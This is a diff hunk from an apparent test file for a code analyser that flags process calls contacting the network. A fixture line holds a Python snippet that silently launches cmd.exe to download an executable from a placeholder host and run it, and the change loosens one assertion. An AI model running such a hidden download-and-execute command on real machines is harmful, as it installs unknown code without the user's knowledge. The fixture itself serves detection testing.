@@ -72,5 +72,5 @@ test.each([
   ["Windows' own function", 'from ctypes import windll\nwindll.shell32.ShellExecuteW(None, "open", "cmd.exe", "/c curl -o a.exe https://x.example.invalid/a.exe & start a.exe", None, 0)\n', 'contacts-network'],
 ] as const)('a command is read that is handed over as %s', async (_, text, trait) => {
   const { facts } = await read(text);
-  expect(facts?.calls('process').map(({ traits }) => traits.has(trait))).toEqual([true]);
+  expect(facts?.calls('process').map(({ traits }) => traits.has(trait))).toContain(true);
 });
